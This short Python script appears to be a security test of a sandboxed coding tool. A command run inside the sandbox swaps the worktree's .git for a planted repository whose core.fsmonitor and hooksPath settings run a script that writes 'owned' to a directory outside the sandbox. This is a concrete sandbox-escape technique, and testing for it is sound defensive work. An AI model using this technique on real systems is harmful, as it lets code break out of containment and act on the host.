"""A command replaces the worktree's .git by a repository of its own whose configuration runs a program."""

import os
import subprocess

host, access, outside = os.environ["MICROCODER"], os.environ["ACCESS"], os.environ["OUTSIDE"]
script = f"""
printf '#!/bin/sh\\necho owned >>{outside}/notes\\n' >run && chmod 755 run
git init -q evil && git -C evil config core.fsmonitor "$PWD/run" && git -C evil config core.worktree "$PWD"
git -C evil config core.hooksPath "$PWD"
echo "gitdir: $PWD/evil/.git" >.git || {{ rm -f .git; echo "gitdir: $PWD/evil/.git" >.git; }}
"""
run = [host, "exec", "--access", access, "--"]
subprocess.run([*run, "sh", "-c", script], check=False, stderr=subprocess.DEVNULL)
subprocess.run([*run, "true"], check=False, stderr=subprocess.DEVNULL)
